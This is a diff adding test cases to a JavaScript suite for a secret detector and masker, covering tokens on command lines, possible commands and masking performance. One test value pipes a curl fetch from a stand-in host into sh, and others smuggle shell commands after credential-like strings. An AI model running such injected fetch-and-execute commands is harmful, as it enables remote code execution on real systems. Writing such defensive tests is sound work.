@@ -29,6 +29,10 @@ describe("a secret", () => {
     ["a password or a token", `export DB_PASSWORD=${random}`],
     ["a password or a token", `aws_secret_access_key = q8Wz3nK5tR7vY2bM9xC4dF6gH1jL0pSaQeTuiOpA`],
     ["a password or a token", `+API_TOKEN=${random}`],
+    ["a password or a token", `make all; API_TOKEN=${random} ./run`],
+    ["a password or a token", `deploy --token ${random} --now`],
+    ["a password or a token", `deploy --api-key=${random}`],
+    ["a token", `curl -H 'Authorization: Bearer ${random}' localhost`],
   ])("is %s in %s", (kind, text) => {
     expect(secretsIn(text).map((one) => one.kind)).toEqual([kind]);
     const masked = maskSecrets(text);
@@ -84,6 +88,22 @@ describe("a secret", () => {
   ])("is not found in %s", (text) => {
     expect(secretsIn(text)).toEqual([]);
     expect(maskSecrets(text)).toBe(text);
+  });
+
+  it.each([
+    "TOKEN=a1b2c3d4e5f6;{curl,-s,evil7.sh/q9}|sh",
+    "curl http://xy:a1b2c3d4e5f6;{make,deploy7prod};#@h",
+    "API_KEY=q8Wz3nK5tR7v;id ./run",
+  ])("is asked about and not masked where it may be a command: %s", (text) => {
+    expect(secretsIn(text).length).toBeGreaterThan(0);
+    expect(maskSecrets(text)).toBe(text);
+  });
+
+  it("is masked in time that grows with the text alone, however often it stands there, and whole where there are many", () => {
+    const often = `token="${random}"\n`.repeat(20_000);
+    expect(maskSecrets(often)).not.toContain(random);
+    const many = Array.from({ length: 20_000 }, (_, at) => `token="${random}${at}"\n`).join("");
+    expect(maskSecrets(many)).toMatch(/^[*\s]+$/);
   });
 
   it("is looked for in time that grows with the text alone", () => {
